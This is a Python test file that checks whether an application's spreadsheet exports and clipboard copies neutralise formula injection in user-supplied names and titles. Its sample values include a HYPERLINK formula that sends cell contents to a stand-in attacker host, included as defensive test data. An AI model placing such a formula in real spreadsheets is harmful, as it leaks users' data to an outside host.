"""Text that leaves FieldApp for a spreadsheet stays text (issue 11, item 9): a name or title typed as a formula
never becomes a live formula in the list exports, the scoring sheets or a copied table."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

from fieldapp.services import review_sheets

from .conftest import World, new_application, to_review

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "+7 701 234 56 78", "-2+3", "@SUM(1,2)",
           "\tтабуляция", "\rперевод", "=1+1"]


def _formulas(path: Path) -> list[str]:
    """Every formula element in every sheet of the workbook, as Excel would find them."""
    with zipfile.ZipFile(path) as archive:
        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>", archive.read(name).decode())]


def test_the_list_export_writes_every_text_as_text(tmp_path: Path) -> None:
    from fieldapp.exports.xlsx import SheetColumn, write_xlsx

    path = tmp_path / "people.xlsx"
    rows = [[name, -12] for name in HOSTILE] + [["Звонок\x07 в дверь", 3]]
    write_xlsx(path, [SheetColumn("ФИО"), SheetColumn("Число", "int")], rows)
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path).active
    names = [sheet.cell(r, 1).value for r in range(2, len(rows) + 2)]
    # as typed (XML reads a carriage return as a line end; a bell character cannot be stored in XLSX)
    assert names == [n.replace("\r", "\n") for n in HOSTILE] + ["Звонок в дверь"]
    assert {sheet.cell(r, 1).data_type for r in range(2, len(rows) + 2)} == {"s"}
    assert sheet.cell(2, 2).value == -12 and sheet.cell(2, 2).data_type == "n"


def test_the_scoring_sheet_writes_titles_and_names_as_text(world: World, tmp_path: Path) -> None:
    app_id = new_application(world, HOSTILE[0])
    to_review(world, app_id)
    path = tmp_path / "sheet.xlsx"
    with world.db.reading() as s:
        review_sheets.write_sheet(s, world.call_id, world.reviewer_ids[1], path)
    assert _formulas(path) == []
    sheet = openpyxl.load_workbook(path)["Scores"]
    assert sheet["C6"].value == HOSTILE[0] and sheet["C6"].data_type == "s"
    with world.db.reading() as s:
        assert not review_sheets.read_sheet(s, path).refused  # it still imports back


def test_a_copied_table_pastes_as_text(qapp) -> None:
    from fieldapp.ui.list_panel import rows_as_mime

    mime = rows_as_mime(["ФИО", "Сумма"], [[HOSTILE[0], "-12"], ["@SUM(1,2)", "1 000,00 ₸"]])
    lines = mime.text().splitlines()
    assert lines[1].split("\t") == ["'" + HOSTILE[0], "-12"]
    assert lines[2].split("\t") == ["'@SUM(1,2)", "1 000,00 ₸"]
    assert mime.html().count("mso-number-format") == 2
